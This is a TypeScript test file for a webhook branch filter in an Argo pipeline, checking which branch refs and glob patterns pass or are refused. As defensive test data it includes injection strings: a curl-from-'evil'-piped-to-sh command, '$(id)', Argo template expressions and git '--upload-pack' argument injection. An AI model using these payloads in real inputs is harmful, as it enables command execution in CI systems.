import { type Branches, refPattern } from '../../../src/pipeline/webhooks/branch-filter';

/** As Argo reads it: anchored at both ends. */
function passes(branches: Branches, ref: string): boolean {
  return new RegExp(`^(?:${refPattern('c', branches).source})$`).test(ref);
}

const everything: Branches = ['**'];

/** Branches, and whether each choice lets them through: the default, two globs, and anyName. */
test.each<[string, boolean, boolean, boolean]>([
  ['main', true, true, true],
  ['feature/login', true, true, true],
  ['feature/team/login', true, false, true],
  ['feature/', true, true, true],
  ['feature', true, false, true],
  ['features/x', true, false, true],
  ['evil-main', true, false, true],
  ['main/x', true, false, true],
  ['1.2.x', true, false, true],
  ['dependabot/npm_and_yarn/a-1.0', true, false, true],
  ['a..b', true, false, true],
  ['x";curl${IFS}evil|sh;#', false, false, true],
  ['{{=workflow.parameters.repo}}', false, false, true],
  ['feature/{{=1}}', false, false, true],
  ['feature/$(id)', false, false, true],
  ['-x', false, false, true],
  ['--upload-pack=x', false, false, true],
  ['feature/-x', true, true, true],
  ['ünïcode', false, false, true],
  ['分支', false, false, true],
  ['a b', false, false, true],
  ['main\nrefs/heads/x', false, false, true],
  ['a@b', false, false, true],
  ['', false, false, false],
])('the branch %j', (branch, byDefault, byGlobs, byAnyName) => {
  const ref = `refs/heads/${branch}`;
  expect({
    byDefault: passes(everything, ref),
    byGlobs: passes(['main', 'feature/*'], ref),
    byAnyName: passes('anyName', ref),
  }).toEqual({ byDefault, byGlobs, byAnyName });
});

test.each([
  'refs/tags/v1',
  'refs/pull/1/head',
  'main',
  'evil/refs/heads/main',
  'refs/heads',
])('what is no branch never passes: %s', (ref) => {
  for (const branches of [everything, ['main'], 'anyName'] as const) expect(passes(branches, ref)).toBe(false);
});

test.each<[Branches, readonly string[], readonly string[]]>([
  [['feature/**'], ['feature/a', 'feature/a/b'], ['main', 'xfeature/a']],
  [['*'], ['main', 'a-b'], ['a/b', '-x', '.x']],
  [['release-*.x'], ['release-1.x', 'release-1.2.x', 'release-.x'], ['release-1xx', 'release-1.x/y']],
  [['**/hotfix'], ['a/hotfix', 'a/b/hotfix'], ['-/hotfix', 'hotfix']],
])('the globs %j', (globs, through, refused) => {
  expect(through.filter((branch) => !passes(globs, `refs/heads/${branch}`))).toEqual([]);
  expect(refused.filter((branch) => passes(globs, `refs/heads/${branch}`))).toEqual([]);
});

test.each<[Branches, string]>([
  [[], 'c: the list of branches is empty, so no push would start anything. Name at least one, for example main.'],
  [[''], 'c: the branch "" is not legal. Use letters, digits and . _ - /, and * or ** for parts of a name.'],
  [['-x'], 'the branch "-x" is not legal'],
  [['main', 'a b'], 'the branch "a b" is not legal'],
  [['x";curl${IFS}evil|sh;#'], 'is not legal'],
  [['{{=workflow.parameters.repo}}'], 'is not legal'],
  [['ünïcode'], 'is not legal'],
  [['(main|dev)'], 'is not legal'],
])('%j is refused as a list of branches', (branches, message) => {
  expect(() => refPattern('c', branches)).toThrow(message);
});
